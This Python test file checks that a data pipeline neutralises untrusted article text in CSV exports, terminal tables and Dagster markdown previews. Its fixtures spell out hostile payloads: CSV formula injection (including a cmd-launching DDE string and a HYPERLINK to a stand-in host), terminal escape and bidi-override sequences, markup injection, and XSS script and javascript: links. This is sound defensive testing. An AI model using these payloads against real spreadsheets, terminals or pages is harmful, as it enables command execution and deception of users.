"""What strangers wrote, on the operator's screen, in a spreadsheet and in Dagster: words, never commands."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from assets.reporting import markdown
from pipelines.show import show_file, show_query
from tests.running import MEETING, article, write_jsonl
from warehouse import database

LOUD = "\x1b[31mred\x1b[0m \x1b]0;owned\x07 \x9b31m \u202etxt.exe"
FORMULAS = ('=HYPERLINK("http://a.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1")


@pytest.fixture
def published(tmp_path: Path) -> Path:
    """A folder that holds a snapshot, which is any database of that name."""
    with database.connect(tmp_path / "chancery-20260303T120000Z.duckdb") as con:
        con.execute("create table articles (title varchar, words bigint, share double, topics varchar[])")
        for title in (*FORMULAS, LOUD, "[bold]Ice[/bold] [/] [link=http://a.example]x[/link]", "Ice, “plain”"):
            con.execute("insert into articles values (?, -5, -0.5, ['=1', 'x'])", [title])
    (tmp_path / "latest.duckdb").symlink_to("chancery-20260303T120000Z.duckdb")
    return tmp_path


def test_no_cell_of_a_spreadsheet_is_a_formula(published: Path, capsys: pytest.CaptureFixture[str]) -> None:
    show_query(published, "select * from articles", csv=True)
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
    assert [row["title"] for row in rows[: len(FORMULAS)]] == [
        f"'{formula}".replace("\r", "\n") for formula in FORMULAS
    ]
    assert rows[-1]["title"] == "Ice, “plain”"
    assert {(row["words"], row["share"]) for row in rows} == {("-5", "-0.5")}, "numbers stay numbers"


def test_a_table_on_the_screen_obeys_nobody(
    published: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "200")
    show_query(published, "select title from articles", csv=False)
    out = capsys.readouterr().out
    assert not set(out) & set("\x1b\x07\x9b\u202e")
    assert "[bold]Ice[/bold] [/] [link=http://a.example]x[/link]" in out


def test_an_article_on_the_screen_obeys_nobody(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "200")
    row = article(1, f"{MEETING}\n\n{LOUD} [/] [bold]x[/bold]", title=f"{LOUD} [/bold]", outlet="[red]Paper[/red] [/]")
    show_file(write_jsonl(tmp_path / "a.jsonl", row), None)
    out = capsys.readouterr().out
    assert not set(out) & set("\x1b\x07\x9b\u202e")
    assert "[/] [bold]x[/bold]" in out
    assert "[red]Paper[/red] [/]" in out


def test_a_preview_in_dagster_is_inert() -> None:
    words = (
        "<script>alert(1)</script> | [x](javascript:alert(1)) ![i](http://a.example/i) `x` \n# head\n- !!python/name:x"
    )
    shown = markdown(pd.DataFrame({"reason": [words]}))
    cells = shown.splitlines()[-1]
    assert "<script>" not in shown
    assert "](" not in cells.replace("\\](", "").replace("\\]\\(", "")
    assert len(shown.splitlines()) == 3, "no line of its own"
